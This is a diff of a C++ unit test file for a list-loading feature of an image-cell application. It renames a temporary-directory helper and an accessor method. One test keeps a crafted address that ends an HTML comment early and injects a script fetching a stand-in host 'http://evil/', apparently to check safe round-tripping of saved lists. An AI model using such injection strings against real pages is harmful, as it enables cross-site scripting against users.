@@ -3,18 +3,19 @@
 #include <gtest/gtest.h>
 #include <sys/stat.h>
 
+#include <filesystem>
 #include <map>
 
 #include "base/exception.h"
 #include "base/text.h"
-#include "list_test_support.h"
 #include "support/bar_fixture.h"
+#include "support/temp_dir.h"
 
 namespace zx {
 namespace {
 
 using test::BarFixture;
-using test::TempFolder;
+using test::TempDir;
 
 std::vector<std::string> Page(const std::string& address) {
     return MakeImagePage(CellPageTemplate(), address);
@@ -25,7 +26,7 @@ std::string Addr(int i) {
 }
 
 // Loads `bytes` as a list file into the bar.
-void Load(BarFixture& f, TempFolder& dir, const std::string& bytes) {
+void Load(BarFixture& f, TempDir& dir, const std::string& bytes) {
     const std::string file = dir / "load.txt";
     test::WriteAll(file, bytes);
     f.fake->openDialogAnswers = {file};
@@ -33,7 +34,7 @@ void Load(BarFixture& f, TempFolder& dir, const std::string& bytes) {
 }
 
 TEST(ListLoad, ShortFileChangesOnlyItsCellsAndLongFileStopsAtTwenty) {
-    TempFolder dir;
+    TempDir dir;
     BarFixture f;
     for (int i = 0; i < 20; ++i) f.fill(i, "http://old/" + std::to_string(i) + ".gif");
     Load(f, dir, Addr(0) + "\r\n\r\n" + Addr(2) + "\r\n");
@@ -55,7 +56,7 @@ TEST(ListLoad, ShortFileChangesOnlyItsCellsAndLongFileStopsAtTwenty) {
 }
 
 TEST(ListLoad, BlankLinesEmptyTheirCellsAndPaddedLinesAreHandedOverUntrimmed) {
-    TempFolder dir;
+    TempDir dir;
     BarFixture f;
     // Filled by drops, as a user would, so that each view has its document.
     for (int i = 0; i < 6; ++i) f.engine(f.cell(i)).SimulateNavigation("http://old/" + std::to_string(i) + ".gif");
@@ -75,7 +76,7 @@ TEST(ListLoad, BlankLinesEmptyTheirCellsAndPaddedLinesAreHandedOverUntrimmed) {
 }
 
 TEST(ListLoad, EmptyCellsStayUnloadedOnBlankLines) {
-    TempFolder dir;
+    TempDir dir;
     BarFixture f;
     Load(f, dir, "\r\n\r\n");
     EXPECT_TRUE(f.engine(f.cell(0)).loads.empty());
@@ -86,7 +87,7 @@ TEST(ListLoad, LineEndsOfAnyKindLoadTheSameCells) {
     const std::string a = Addr(0), b = Addr(1), c = Addr(2);
     for (const std::string& text : {a + "\r\n" + b + "\r\n" + c + "\r\n", a + "\n" + b + "\n" + c,
                                     a + "\r" + b + "\r" + c + "\r", a + "\r\n" + b + "\n" + c}) {
-        TempFolder dir;
+        TempDir dir;
         BarFixture f;
         Load(f, dir, text);
         EXPECT_EQ(f.cell(0).HTMLCode().Lines(), Page(a));
@@ -97,7 +98,7 @@ TEST(ListLoad, LineEndsOfAnyKindLoadTheSameCells) {
 }
 
 TEST(ListLoad, SavedListLoadsBackIntoTheSameCells) {
-    TempFolder dir;
+    TempDir dir;
     BarFixture f;
     // Cell 7's address is a crafted line: it ends the marker's comment early.
     const std::string crafted = "http://h/pic.jpg><script>fetch('http://evil/')</script><!x.jpg";
@@ -127,7 +128,7 @@ TEST(ListLoad, SavedListLoadsBackIntoTheSameCells) {
 }
 
 TEST(ListLoad, FileThatCannotBeReadChangesNothing) {
-    TempFolder dir;
+    TempDir dir;
     BarFixture f;
     f.fill(0, Addr(0));
     const std::string missing = dir / "missing.txt";
@@ -138,12 +139,12 @@ TEST(ListLoad, FileThatCannotBeReadChangesNothing) {
     } catch (const EFOpenError& e) {
         EXPECT_EQ(std::string(e.what()), "Cannot open file \"" + missing + "\". No such file or directory");
     }
-    f.fake->openDialogAnswers = {dir.path()};
+    f.fake->openDialogAnswers = {dir.Path()};
     try {
         f.form1->Button3Click();
         FAIL() << "no error";
     } catch (const EFOpenError& e) {
-        EXPECT_EQ(std::string(e.what()), "Cannot open file \"" + dir.path() + "\". Is a directory");
+        EXPECT_EQ(std::string(e.what()), "Cannot open file \"" + dir.Path() + "\". Is a directory");
     }
     // A pipe nobody writes to reads as an empty file instead of waiting.
     const std::string fifo = dir / "pipe";
